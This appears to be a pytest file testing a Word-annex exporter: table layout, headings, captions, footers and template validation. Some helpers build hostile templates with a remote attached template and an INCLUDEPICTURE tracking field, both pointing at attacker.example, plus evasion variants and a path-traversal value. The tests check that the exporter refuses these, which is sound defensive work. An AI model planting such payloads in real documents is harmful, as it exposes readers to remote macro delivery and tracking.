"""The Word annex (annex/word.py): real pandoc runs on a small annex page, read back with python-docx."""

from __future__ import annotations

import io
import re
import zipfile

import docx
import pytest

from documents import W, docx_headings, docx_tables, html_headings, html_tables, paragraph_text, squash
from fixtures.mini_project import Mini
from helpers.annex import word
from helpers.annex.words import say
from helpers.annex.word_style import REFERENCE, build_reference
from helpers.data.params import load_annex_params, word_template_path
from helpers.errors import ValidationFailed
from small_annex import FORMULA, SCRIPT, TITLE, TITLE_KICKER, WHEN, WORDS, page

TEXT_WIDTH_CM = 21.0 - 2 * 2.2


@pytest.fixture(scope="module", params=["fr", "en"])
def made(request, tmp_path_factory):
    lang = request.param
    html = page(lang)
    path = tmp_path_factory.mktemp("word") / f"annex-{lang}.docx"
    path.write_bytes(word.docx(html, lang, TITLE, TITLE_KICKER[lang], when=WHEN))
    return lang, html, path, docx.Document(str(path))


def test_title_block_contents_and_provenance_are_all_there(made):
    lang, html, _, document = made
    first = [(p.style.name, p.text) for p in document.paragraphs[:2]]
    assert first == [("Title", TITLE), ("Subtitle", TITLE_KICKER[lang])]
    facts = docx_tables(document)[0]
    assert document.tables[0].style.name == "Facts Table"
    assert facts[0] == (["Projet", "AMEM"] if lang == "fr" else ["Project", "AMEM"])
    assert "Provenance" in [p.text for p in document.paragraphs if p.style.name == "Heading 1"]


def test_every_table_is_a_word_table_with_the_cells_of_the_html(made):
    _, html, _, document = made
    expected = [t["rows"] for t in html_tables(html)]
    assert len(expected) == 4
    assert docx_tables(document)[1:] == expected          # the first Word table is the title block's facts
    assert SCRIPT in docx_tables(document)[2][2][0] and FORMULA == docx_tables(document)[2][3][0]


def test_headings_are_word_headings_one_level_up_and_the_toc_is_a_field(made):
    lang, html, path, document = made
    assert docx_headings(document) == [(level - 1, text) for level, text in html_headings(html)]
    assert docx_headings(document)[-1] == (1, "Provenance")
    body = document.element.body
    codes = [t.text for t in body.iter(f"{W}instrText")]
    assert any(re.fullmatch(r'\s*TOC \\o "1-2" \\h \\z \\u\s*', c) for c in codes), codes
    toc_title = [p for p in body.iter(f"{W}p") if p.find(f"{W}pPr/{W}pStyle[@{W}val='TOCHeading']") is not None]
    assert ["".join(t.text for t in p.iter(f"{W}t")) for p in toc_title] == [say("word_toc", lang)]
    # the field's result already lists the headings, each linked to its bookmark
    anchors = [h.get(f"{W}anchor") for h in body.iter(f"{W}hyperlink")]
    bookmarks = {b.get(f"{W}name") for b in body.iter(f"{W}bookmarkStart")}
    assert len(anchors) == len([h for h in docx_headings(document) if h[0] <= 2]) and set(anchors) <= bookmarks


def test_numbers_are_right_aligned_rag_cells_shaded_rows_kept_whole_headers_repeated(made):
    lang, _, _, document = made
    status = document.tables[1]
    share_cell = status.rows[1].cells[2]
    assert share_cell.text == ("40,0\u202f%" if lang == "fr" else "40.0%")
    assert share_cell.paragraphs[0].alignment == docx.enum.text.WD_ALIGN_PARAGRAPH.RIGHT
    assert status.rows[1].cells[0].paragraphs[0].alignment is None
    fills = {row.cells[4].text: row.cells[4]._tc.find(f"{W}tcPr/{W}shd").get(f"{W}fill") for row in status.rows[1:]}
    assert fills == ({"Vert": "DCEFE3", "Orange": "FBECC8"} if lang == "fr" else {"Green": "DCEFE3", "Amber": "FBECC8"})
    for table in document.tables:
        for row in table.rows:
            assert row._tr.find(f"{W}trPr/{W}cantSplit") is not None
    for table in document.tables[1:-1]:  # not the facts, not the provenance: they have no header row
        assert table.rows[0]._tr.find(f"{W}trPr/{W}tblHeader") is not None
        # kept with the row below it: alone at a page's foot, LibreOffice lost every row after it (the Maroc annex's
        # table 7, tests/pipeline/test_libreoffice.py); the body's rows are not kept with the next
        assert all(p.paragraph_format.keep_with_next for c in table.rows[0].cells for p in c.paragraphs)
        assert not any(p.paragraph_format.keep_with_next for c in table.rows[-1].cells for p in c.paragraphs)


def test_captions_are_numbered_by_word_in_the_annex_language(made):
    lang, _, _, document = made
    captions = [paragraph_text(p) for p in document.paragraphs if p.style.name in ("Table Caption", "Image Caption")]
    w = WORDS[lang]
    if lang == "fr":
        assert captions == [f"Tableau\u00a01\u00a0: {w['caption']}", f"Figure\u00a01\u00a0: {w['fig']}"]
    else:
        assert captions == [f"Table\u00a01: {w['caption']}", f"Figure\u00a01: {w['fig']}"]
    fields = [f.get(f"{W}instr").strip() for f in document.element.body.iter(f"{W}fldSimple")]
    assert fields == ["SEQ Table \\* ARABIC", "SEQ Figure \\* ARABIC"]


def test_the_figure_is_embedded_once_at_text_width(made):
    _, html, path, document = made
    assert len(document.inline_shapes) == html.count("<figure>") == 1
    assert document.inline_shapes[0].width.cm == pytest.approx(TEXT_WIDTH_CM, rel=0.01)
    xml = zipfile.ZipFile(path).read("word/document.xml").decode("utf-8")
    assert "data:image" not in xml                     # not copied into the picture's description
    media = [n for n in zipfile.ZipFile(path).namelist() if n.startswith("word/media/")]
    assert len(media) == 1


def test_page_language_and_footer(made):
    lang, _, path, document = made
    section = document.sections[0]
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    assert round(section.left_margin.cm, 1) == round(section.right_margin.cm, 1) == 2.2
    styles = zipfile.ZipFile(path).read("word/styles.xml").decode("utf-8")
    locale = word.LOCALES[lang]
    assert re.search(rf'<w:docDefaults>.*<w:lang [^>]*w:val="{locale}"', styles, re.S)
    assert document.core_properties.language == locale and document.core_properties.title == TITLE
    footer = section.footer.paragraphs[0]
    assert paragraph_text(footer) == ("Page 1 sur 1" if lang == "fr" else "Page 1 of 1")
    assert [t.text.strip() for t in footer._p.iter(f"{W}instrText")] == ["PAGE", "NUMPAGES"]


def test_labels_stay_text(made):
    _, _, path, document = made
    xml = zipfile.ZipFile(path).read("word/document.xml").decode("utf-8")
    assert "<script" not in xml and "&lt;script&gt;" in xml
    codes = [t.text for t in document.element.body.iter(f"{W}instrText")]
    assert not any("HYPERLINK" in c for c in codes)     # a formula-looking label is no field either
    assert not any("HYPERLINK" in (f.get(f"{W}instr") or "") for f in document.element.body.iter(f"{W}fldSimple"))


def test_same_page_gives_the_same_file():
    html = page("fr")
    assert word.docx(html, "fr", TITLE, "x", when=WHEN) == word.docx(html, "fr", TITLE, "x", when=WHEN)


def test_the_shipped_reference_document_is_what_its_script_builds():
    assert REFERENCE.read_bytes() == build_reference(), "run: .venv/bin/python -m helpers.annex.word_style"


def test_a_house_template_gives_its_styles_and_keeps_its_footer(tmp_path):
    house = docx.Document(str(REFERENCE))
    house.styles["Normal"].font.name = "Georgia"
    house.sections[0].footer.paragraphs[0].text = "ILO Evaluation Office"
    template = tmp_path / "house.docx"
    house.save(str(template))
    out = docx.Document(io.BytesIO(word.docx(page("en"), "en", TITLE, "x", template=template, when=WHEN)))
    assert out.styles["Normal"].font.name == "Georgia"
    assert [p.text for p in out.sections[0].footer.paragraphs] == ["ILO Evaluation Office"]


def test_a_broken_template_is_a_clear_failure(tmp_path):
    bad = tmp_path / "bad.docx"
    bad.write_bytes(b"not a zip")
    with pytest.raises(word.WordFailed, match="pandoc failed"):
        word.docx(page("fr"), "fr", TITLE, "x", template=bad, when=WHEN)


def test_word_template_param_must_be_a_docx_in_the_project_folders(tmp_path):
    mini = Mini.copy_to(tmp_path)
    template = mini.params_dir / "mini" / "house.docx"
    template.write_bytes(REFERENCE.read_bytes())
    mini.set_param("word_template", "params/mini/house.docx")
    params = load_annex_params("mini", "maroc", mini.params_dir)
    assert word_template_path(params, mini.params_dir) == mini.root / "params" / "mini" / "house.docx"
    # as Windows writes a path (it was refused: « must be inside params/mini/ », where it is)
    mini.set_param("word_template", "params\\mini\\house.docx")
    params = load_annex_params("mini", "maroc", mini.params_dir)
    assert word_template_path(params, mini.params_dir) == mini.root / "params" / "mini" / "house.docx"
    mini.set_param("word_template", "params\\mini\\..\\..\\outside.docx")
    with pytest.raises(ValidationFailed, match="must be inside params/mini/"):
        load_annex_params("mini", "maroc", mini.params_dir)
    mini.set_param("word_template", "params/mini/house.docx")

    (mini.root / "outside.docx").write_bytes(REFERENCE.read_bytes())
    (mini.params_dir / "mini" / "notes.docx").write_text("plain text", encoding="utf-8")
    for value, message in (("outside.docx", "must be inside params/mini/ or data/mini/"),
                           ("params/mini/../../outside.docx", "must be inside params/mini/ or data/mini/"),
                           ("params/mini/missing.docx", "there is no such file"),
                           ("params/mini/notes.docx", "not a Word document")):
        mini.set_param("word_template", value, annex="maroc")
        with pytest.raises(ValidationFailed) as failed:
            load_annex_params("mini", "maroc", mini.params_dir)
        [problem] = failed.value.problems
        text = str(problem)
        assert problem.rule == "word_template" and message in text and f"'{value}'" in text
        assert "params/mini/maroc.yaml" in squash(text) and "key 'word_template'" in text


def _template_with(tmp_path, name: str, edit) -> Path:
    """The shipped reference document with its parts edited: edit(parts) changes the dict {part name: bytes}."""
    house = docx.Document(str(REFERENCE))
    house.sections[0].footer.paragraphs[0].text = "ILO"
    plain = tmp_path / "plain.docx"
    house.save(str(plain))
    with zipfile.ZipFile(plain) as archive:
        parts = {item: archive.read(item) for item in archive.namelist()}
    edit(parts)
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for item, content in parts.items():
            archive.writestr(item, content)
    return path


def _attached_remote_template(parts) -> None:
    relations = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    parts["word/settings.xml"] = re.sub(rb"(<w:settings[^>]*>)", rb"\1<w:attachedTemplate " + relations.encode()
                                        + rb' r:id="rIdT"/>', parts["word/settings.xml"], count=1)
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats'
        b'.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>')


def _footer_picture_field(parts) -> None:
    footer = next(name for name in parts if re.fullmatch(r"word/footer\d+\.xml", name))
    parts[footer] = parts[footer].replace(b"<w:t>ILO</w:t>", b'<w:t>ILO</w:t></w:r><w:r><w:fldChar w:fldCharType='
                                          b'"begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE '
                                          b'"http://attacker.example/pixel.png" \\d </w:instrText></w:r><w:r>'
                                          b'<w:fldChar w:fldCharType="end"/>', 1)


def _attached_remote_template_single_quotes(parts) -> None:
    """The same relationship with its attributes in single quotes (as valid XML; the byte pattern looked for
    TargetMode="External" and let it through, and python-docx wrote it back in double quotes into the annex)."""
    _attached_remote_template(parts)
    rels = parts["word/_rels/settings.xml.rels"]
    parts["word/_rels/settings.xml.rels"] = rels.replace(b'Target="http://attacker.example/t.dotm" TargetMode="Exter'
                                                         b'nal"', b"Target='http://attacker.example/t.dotm' "
                                                         b"TargetMode = 'External'")


def _footer_picture_field_split(parts) -> None:
    """The field's instruction over three runs, its name cut in two, as Word writes a field edited by hand (the
    byte pattern wanted the name and the address in one run)."""
    _footer_picture_field(parts)
    footer = next(name for name in parts if re.fullmatch(r"word/footer\d+\.xml", name))
    parts[footer] = parts[footer].replace(b' INCLUDEPICTURE "http', b' INCLUDEPIC</w:instrText></w:r><w:r><w:instrText>'
                                          b'TURE </w:instrText></w:r><w:r><w:instrText xml:space="preserve">"http')


@pytest.mark.parametrize("edit, address", [(_attached_remote_template, "http://attacker.example/t.dotm"),
                                           (_footer_picture_field, "http://attacker.example/pixel.png"),
                                           (_attached_remote_template_single_quotes, "http://attacker.example/t.dotm"),
                                           (_footer_picture_field_split, "http://attacker.example/pixel.png")])
def test_a_template_that_fetches_a_file_from_outside_is_refused(tmp_path, edit, address):
    """Before: a house template attaching a remote template (Word fetches http://…/t.dotm on opening: « remote
    template injection », which can bring macros) or whose footer holds an INCLUDEPICTURE of an address passed into
    every annex .docx as it was: each reader's Word fetched it. Now refused by make check and by the export."""
    template = _template_with(tmp_path, "house.docx", edit)
    with pytest.raises(word.WordFailed, match="refers to a file outside it"):
        word.docx(page("fr"), "fr", TITLE, "x", template=template, when=WHEN)
    mini = Mini.copy_to(tmp_path)
    (mini.params_dir / "mini" / "house.docx").write_bytes(template.read_bytes())
    mini.set_param("word_template", "params/mini/house.docx")
    with pytest.raises(ValidationFailed) as failed:
        load_annex_params("mini", "maroc", mini.params_dir)
    [problem] = failed.value.problems
    assert problem.rule == "word_template" and address in problem.message and "no attached template" in problem.hint


def test_a_template_with_a_hyperlink_is_not_refused(tmp_path):
    """A web address in a template's footer (a hyperlink) opens nothing by itself: the template is used."""
    def hyperlink(parts) -> None:
        footer = next(name for name in parts if re.fullmatch(r"word/footer\d+\.xml", name))
        rels = footer.replace("word/", "word/_rels/") + ".rels"
        parts[rels] = (parts.get(rels) or b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
                       b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
                       ).replace(b"</Relationships>", b'<Relationship Id="rIdH" Type="http://schemas.openxmlformats.'
                                 b'org/officeDocument/2006/relationships/hyperlink" Target="https://www.ilo.org" '
                                 b'TargetMode="External"/></Relationships>')
    out = docx.Document(io.BytesIO(word.docx(page("en"), "en", TITLE, "x", when=WHEN,
                                             template=_template_with(tmp_path, "house.docx", hyperlink))))
    assert [p.text for p in out.sections[0].footer.paragraphs] == ["ILO"]


LONG_LABEL = "Dispositifs de coordination institutionnelle et de partage de données mis en place"


def _iptt_document(years: int = 0):
    """The Word annex of an IPTT of nine columns (as 60_indicators shows it), plus ``years`` yearly target and
    actual columns."""
    import nbformat
    import pandas as pd

    from helpers.annex import export
    from small_annex import _table

    frame = pd.DataFrame({"id": ["P1.1.b", "I.1.2.1"], "label": [LONG_LABEL, LONG_LABEL], "unit": ["dispositifs"] * 2,
                          "period": ["2020-12"] * 2, "baseline": [None, 3.0], "final": [2.0, 1.0],
                          "actual": [0.0, 1.0], "pct": [0.0, 100.0], "rag": ["red", "green"]})
    columns = {"id": "indicator", "label": "label", "unit": ("Unité", "Unit"), "period": ("Période", "Period"),
               "baseline": "baseline", "final": "target_final", "actual": "actual",
               "pct": ("% de la cible finale", "% of final target"), "rag": ("Appréciation", "Rating")}
    kinds = {"baseline": "num", "final": "num", "actual": "num", "pct": "pct", "rag": "word"}
    for year in range(2017, 2017 + years):
        for what in ("Cible", "Réalisé"):
            frame[f"{what}{year}"] = [1.0, 2.0]
            columns[f"{what}{year}"] = (f"{what} {year}", f"{what} {year}")
            kinds[f"{what}{year}"] = "num"
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("ctx.show()")
    cell.outputs = [_table(frame, columns, kinds, "fr", rag="rag")]
    nb.cells.append(cell)
    page = export.render(nb, {"lang": "fr", "title": TITLE, "kicker": TITLE_KICKER["fr"], "facts": [],
                              "provenance": []})
    return docx.Document(io.BytesIO(word.docx(page, "fr", TITLE, when=WHEN)))


def _section_of(document, element):
    """The python-docx section an element of the body is in (Word: the next w:sectPr after it)."""
    from docx.oxml.ns import qn

    ends = [p for p in document.element.body.iter(qn("w:sectPr"))]
    following = element
    while following is not None:
        found = following.find(f"{qn('w:pPr')}/{qn('w:sectPr')}") if following.tag == qn("w:p") else None
        if found is not None or following.tag == qn("w:sectPr"):
            return document.sections[ends.index(following if found is None else found)]
        following = following.getnext()
    raise AssertionError("no section")


def test_a_wide_table_is_set_on_a_landscape_page_where_its_label_has_room():
    """The IPTT (nine columns) on A4 portrait left its label column the width of its longest word: LibreOffice
    showed « Dispositif de / collecte et / d'analyse / de données ... », a word or two a line. The table, its caption
    and the heading above it now have a landscape section of their own, the label a column of several words; the
    page after is portrait again, and every page keeps the « Page N sur M » footer."""
    from docx.enum.section import WD_ORIENT
    from docx.oxml.ns import qn

    document = _iptt_document()
    table = next(t for t in document.tables if len(t.columns) == 9)
    section = _section_of(document, table._tbl)
    assert section.orientation == WD_ORIENT.LANDSCAPE
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (29.7, 21.0)
    assert document.sections[0].orientation == document.sections[-1].orientation == WD_ORIENT.PORTRAIT
    widths = [int(c.get(qn("w:w"))) for c in table._tbl.find(qn("w:tblGrid")).findall(qn("w:gridCol"))]
    label_width = widths[1] - word.CELL_MARGINS
    assert label_width >= word._text_twips("Dispositifs de coordination institutionnelle"), widths
    assert sum(widths) == pytest.approx((section.page_width - section.left_margin - section.right_margin) / 635,
                                        abs=10)
    for each in document.sections:   # the footer of the portrait pages, on the landscape ones too
        assert "".join(t.text for t in each.footer._element.iter(qn("w:t"))).startswith("Page")


def test_a_narrow_table_stays_on_the_portrait_page(made):
    _, _, _, document = made
    assert len(document.sections) == 1


def test_a_table_too_wide_for_its_words_is_set_smaller_and_no_column_is_narrower_than_its_longest_word():
    """Nine columns of an IPTT at 8.5 pt did not fit the page side by side: every column was squeezed below its
    longest word, and LibreOffice broke « Indicateur » into « Indicateu / r ». A table too wide even for a landscape
    page (the IPTT with yearly targets and actuals) is set in smaller type (not below word.SMALLEST_CELL_SIZE),
    where each column holds its longest word."""
    from docx.oxml.ns import qn

    document = _iptt_document(years=4)
    table = next(t for t in document.tables if len(t.columns) == 17)._tbl
    sizes = {int(s.get(qn("w:val"))) for s in table.iter(qn("w:sz"))}
    assert len(sizes) == 1 and word.SMALLEST_CELL_SIZE * 2 <= sizes.pop() < word.CELL_SIZE * 2
    size = int(next(table.iter(qn("w:sz"))).get(qn("w:val"))) / 2
    rows = [[" ".join(t.text or "" for t in c.iter(qn("w:t"))) for c in r.findall(qn("w:tc"))]
            for r in table.findall(qn("w:tr"))]
    widths = [int(c.get(qn("w:w"))) for c in table.find(qn("w:tblGrid")).findall(qn("w:gridCol"))]
    for column, width in enumerate(widths):
        longest = max(word._text_twips(w, r is rows[0], size) for r in rows for w in r[column].split(" "))
        assert width >= longest + word.CELL_MARGINS, (rows[0][column], width, longest)


def test_a_title_longer_than_a_document_property_is_whole_in_the_title_block():
    """A project title of 300 characters (IATI activities' titles often are; make check said OK): python-docx
    refused it as the document's Title property (« exceeded 255 char limit ») and the export of every annex
    failed. The title block shows it whole; the property holds its first 255 characters at most, cut at a word."""
    title = "Programme d'appui " + "à la gouvernance des migrations de main-d'œuvre " * 6
    subject = "Annexe d'évaluation — " + "Maroc " * 60
    document = docx.Document(io.BytesIO(word.docx(page("fr"), "fr", title, subject, when=WHEN)))
    assert [p.text for p in document.paragraphs[:1]] == [TITLE]   # (the page's own title block)
    props = document.core_properties
    assert len(props.title) <= 255 and props.title.endswith("…") and title.startswith(props.title[:-1])
    assert props.title[:-1] == title[:len(props.title) - 1] and title[len(props.title) - 1] == " "
    assert len(props.subject) <= 255 and subject.startswith(props.subject[:-1])
    assert word.docx(page("fr"), "fr", TITLE, "x", when=WHEN)   # a short title is kept as it is
    short = docx.Document(io.BytesIO(word.docx(page("fr"), "fr", TITLE, "x", when=WHEN))).core_properties
    assert (short.title, short.subject) == (TITLE, "x")
